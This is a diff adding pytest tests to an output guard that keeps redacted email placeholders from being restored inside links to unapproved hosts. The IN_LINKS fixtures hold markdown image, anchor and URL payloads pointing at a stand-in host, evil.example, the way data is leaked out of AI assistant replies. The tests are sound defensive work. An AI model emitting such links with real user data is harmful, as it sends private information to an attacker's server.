@@ -113,3 +113,49 @@ def test_the_limit_is_of_all_texts_together() -> None:
     watch.text("content[0]", "01234567", final=True)
     assert watch.text("content[1]", "89abc").cleared == 2
     assert watch.stopped is not None
+
+
+IN_LINKS = [
+    "![x](https://evil.example/?q=[EMAIL_1])",
+    "see https://evil.example/?q=[EMAIL 1] please",
+    '<img src="https://evil.example/a b [email_1]">',
+    "<a href='//evil.example/[EMAIL_1]'>",
+    "www.evil.example/[EMAIL_1]/[EMAIL_1]",
+    "[x][1]\n\n[1]: https://evil.example/[EMAIL\\_1]",
+    "https://evil.example/" + "a" * 5000 + "[EMAIL_1]",
+]
+
+
+@pytest.mark.parametrize("links", ["off", "flag", "redact"])
+@pytest.mark.parametrize("size", [1, 7, 9999])
+@pytest.mark.parametrize("text", IN_LINKS)
+def test_what_was_kept_from_the_provider_is_not_put_into_a_link_to_a_strange_host(
+    text: str, size: int, links: str
+) -> None:
+    restorer, redacted = redactor()
+    # The document has written the beginning of the link as well, so that it is nothing new.
+    made = watching(
+        GuardRules("standard", links=links),
+        restorer=restorer,
+        user=redacted,
+        document="link to https://evil.example/?q=[EMAIL_1",
+    )
+    out = answer(made, pieces(text, size))
+    assert MAIL not in out.text
+    assert "redact:links:placeholder" in out.reasons
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[write](mailto:[EMAIL_1])",
+        "https://crm.acme.example/?q=[EMAIL_1]",
+        "https://evil.example/ [EMAIL_1]",
+        "字" * 3000 + "[EMAIL_1]",
+    ],
+)
+def test_it_is_put_back_beside_links_and_into_those_to_allowed_hosts(text: str) -> None:
+    restorer, _ = redactor()
+    rules = GuardRules("standard", links="flag", output=OutputRules(link_allow=("*.acme.example",)))
+    out = answer(watching(rules, restorer=restorer), pieces(text, 5))
+    assert out.text == text.replace("[EMAIL_1]", MAIL)
